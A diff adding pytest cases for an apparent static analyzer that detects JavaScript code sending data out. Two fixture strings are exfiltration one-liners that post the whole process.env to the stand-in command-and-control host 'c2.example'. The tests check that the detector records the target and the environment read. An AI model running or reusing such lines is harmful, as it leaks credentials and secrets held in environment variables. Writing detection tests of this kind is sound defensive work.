@@ -86,3 +86,21 @@ def test_what_only_stands_beside_it_does_not(text: str) -> None:
 def test_no_text_breaks_it(parts: list[str]) -> None:
     for one in read(" ".join(parts)):
         assert one.place.line >= 1  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "let r = require('https').request({host: 'c2.example'}); r.write(JSON.stringify({e: process.env}));",
+        "const o = {hostname: 'c2.example'}; require('http').request(o).end(JSON.stringify(process.env));",
+    ],
+)
+def test_a_request_keeps_its_host_and_what_an_object_holds_is_sent(text: str) -> None:
+    (sent,) = [one for one in read(text) if one.act is Act.SENDS]
+    assert sent.target == "c2.example"
+    assert [one.act for one in sent.inputs] == [Act.READS_ENVIRONMENT]
+
+
+def test_handing_the_environment_to_a_program_sends_nothing() -> None:
+    text = "require('child_process').spawn('x', {env: process.env}); fetch('http://x.invalid/y');"
+    assert not [one for one in read(text) if one.act is Act.SENDS]
